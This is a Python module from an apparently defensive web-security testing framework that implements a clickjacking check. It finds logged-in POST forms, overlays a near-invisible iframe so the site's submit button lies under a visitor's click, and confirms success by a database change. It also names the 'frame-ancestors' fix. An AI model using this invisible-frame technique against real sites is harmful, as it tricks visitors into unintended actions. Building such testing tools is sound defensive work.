"""The visitor clicks on the attacker's page, and hits a button of the site's in an unseen frame.

Oracle: what the button changes has changed in the site's database. The click is a real one.
"""

from __future__ import annotations

from html import escape
from typing import TYPE_CHECKING

from ringfence.prove.aims import answers
from ringfence.prove.attacks.framing import FRAME_POLICY
from ringfence.prove.stage import (
    Attack,
    Outcome,
    Result,
    Target,
    one_by_one,
    path_of,
    stopped_by_answer,
)

if TYPE_CHECKING:
    from ringfence.prove.discover.survey import Survey
    from ringfence.prove.stage import Stage

__all__ = ["ATTACK"]

_WIDTH, _HEIGHT, _AT = 1280, 4000, 100
_HEED = 1.0

#: Browsers do not heed clicks in a frame that has only just been painted (Chromium's
#: DiscardInputEventsToRecentlyMovedFrames): a visitor who plays clicks again.
_CLICKS = 4

#: Where the form's button is in a frame of that width, by the page's own layout, and what the page
#: begins with.
_WHERE = """(index) => {
    const form = document.forms[index];
    const button = [...(form?.elements ?? [])].find((e) => e.type === "submit");
    if (!button || !form.checkValidity()) return null;
    const box = button.getBoundingClientRect();
    if (!box.width) return null;
    const [x, y] = [box.x + scrollX + box.width / 2, box.y + scrollY + box.height / 2];
    return [x, y, document.body.innerText.trim().slice(0, 40)];
}"""


def _find(survey: Survey) -> tuple[Target, ...] | str:
    targets = {}
    for found in survey.forms:
        if found.form.method == "post" and found.visitor != "anonymous":
            path, page = path_of(found.form.action), path_of(found.form.page)
            targets[path, page] = Target(
                page,
                f"button of POST {path} at {page}",
                visitor=found.visitor,
                form=found.form,
                place=found.place,
                data={"action": path},
            )
    return tuple(targets.values()) or "no form with a button was found"


def _strike(stage: Stage, target: Target) -> Result:
    form = target.form
    if form is None:
        raise ValueError(f"{target.label} names no form.")
    where = stage.run(form.page, _WHERE, getattr(form, "index", 0))
    if where is None:
        return Result(Outcome.STOPPED, "no button", "nothing is sent by a click alone")
    left, top = _AT - round(where[0]), _AT - round(where[1])
    page = f"""<!doctype html><title>Play</title><style>body {{ margin: 0 }}
        iframe {{ position: absolute; border: 0; opacity: 0.01; left: {left}px; top: {top}px }}
        </style>
        <iframe src="{escape(form.page)}" width="{_WIDTH}" height="{_HEIGHT}"></iframe>"""
    before, mark = stage.digest(), stage.mark()
    visit = stage.click(stage.serve(page), _AT, _AT)
    framed = [e for e in stage.requests_since(mark) if e.path == target.path]
    if framed and not framed[-1].with_session:
        return stopped_by_answer(framed[-1], FRAME_POLICY)
    if not any(where[2] in text for text in visit.frames):
        return stopped_by_answer(framed[-1] if framed else None, FRAME_POLICY)
    for _ in range(_CLICKS):
        sent = stage.request_since(mark, "POST", target.data["action"], seconds=_HEED)
        if stage.digest() != before:
            return Result(Outcome.SUCCEEDED, "changed", "the click changed the site's database")
        if sent is not None:
            return stopped_by_answer(sent, "nothing changed")
        stage.click_again(_AT, _AT)
    return Result(
        Outcome.INCONCLUSIVE, "no click", "the frame is shown, and its button not reached"
    )


ATTACK = Attack(
    name="clickjacking",
    title="a click through an invisible frame",
    cwe="CWE-1021",
    stopped_by=("csp", "isolation", "transport"),
    find=_find,
    strike=one_by_one(_strike),
    use=answers,
    fix="say `frame-ancestors 'self'` (or 'none') on every page",
    overriding=frozenset({FRAME_POLICY}),
    changes=True,
    guess=True,
)
